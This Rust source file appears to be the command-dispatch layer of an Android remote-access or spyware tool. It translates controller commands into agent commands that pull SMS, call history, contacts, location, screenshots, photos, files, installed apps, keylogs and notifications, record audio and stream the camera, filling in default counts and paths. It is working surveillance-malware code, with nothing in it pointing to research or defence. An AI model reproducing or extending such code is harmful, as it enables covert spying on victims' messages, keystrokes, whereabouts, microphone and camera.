use serde_json::{json, Map, Value};
use thiserror::Error;

use crate::protocol::CommandDescriptor;

pub const DEFAULT_SMS_COUNT: u64 = 100;
pub const DEFAULT_CALL_COUNT: u64 = 50;
pub const DEFAULT_AUDIO_SECONDS: u64 = 30;
pub const DEFAULT_CAMERA_FACING: &str = "back";
pub const DEFAULT_FILE_ROOT: &str = "/storage/emulated/0";

/// Why a command could not be delivered; surfaced one hop back to the
/// issuing controller and nowhere else.
#[derive(Debug, Error, PartialEq, Eq)]
pub enum DispatchError {
    #[error("unknown command: {0}")]
    UnknownCommand(String),
    #[error("agent {0} is not connected")]
    TargetNotFound(String),
    #[error("agent {0} is unreachable")]
    TargetUnreachable(String),
}

/// Translates a controller-facing logical command into the agent-facing
/// descriptor, substituting documented defaults for absent parameters.
/// Returns `None` for names outside the table; that is a normal outcome, not
/// a failure.
pub fn translate(command: &str, params: &Map<String, Value>) -> Option<CommandDescriptor> {
    let descriptor = match command {
        "request_sms" => CommandDescriptor::new(
            "get_sms",
            vec![json!(count(params, DEFAULT_SMS_COUNT))],
        ),
        "request_call_history" => CommandDescriptor::new(
            "get_call_history",
            vec![json!(count(params, DEFAULT_CALL_COUNT))],
        ),
        "request_contacts" => CommandDescriptor::new("get_contacts", vec![]),
        "request_location" => CommandDescriptor::new("get_location", vec![]),
        "capture_screenshot" => CommandDescriptor::new("take_screenshot", vec![]),
        "request_photos" => CommandDescriptor::new("get_images", vec![]),
        "list_files" => CommandDescriptor::new(
            "file_explorer",
            vec![json!("list"), json!(path(params))],
        ),
        "download_file" => CommandDescriptor::new(
            "file_explorer",
            vec![json!("download"), json!(path(params))],
        ),
        "list_installed_apps" => CommandDescriptor::new("get_installed_apps", vec![]),
        "request_keylog" => CommandDescriptor::new("get_keylog", vec![]),
        "request_notifications" => CommandDescriptor::new("get_notifications", vec![]),
        "record_audio" => CommandDescriptor::new(
            "record_audio",
            vec![json!(duration(params))],
        ),
        "stream_camera" => CommandDescriptor::new(
            "stream_camera",
            vec![json!(facing(params))],
        ),
        "start_camera_stream" => CommandDescriptor::new(
            "start_camera_stream",
            vec![json!(facing(params))],
        ),
        "stop_camera_stream" => CommandDescriptor::new("stop_camera_stream", vec![]),
        _ => return None,
    };
    Some(descriptor)
}

fn count(params: &Map<String, Value>, default: u64) -> u64 {
    params
        .get("count")
        .and_then(Value::as_u64)
        .unwrap_or(default)
}

fn duration(params: &Map<String, Value>) -> u64 {
    params
        .get("duration")
        .and_then(Value::as_u64)
        .unwrap_or(DEFAULT_AUDIO_SECONDS)
}

fn facing(params: &Map<String, Value>) -> String {
    params
        .get("facing")
        .and_then(Value::as_str)
        .unwrap_or(DEFAULT_CAMERA_FACING)
        .to_string()
}

fn path(params: &Map<String, Value>) -> String {
    params
        .get("path")
        .and_then(Value::as_str)
        .unwrap_or(DEFAULT_FILE_ROOT)
        .to_string()
}
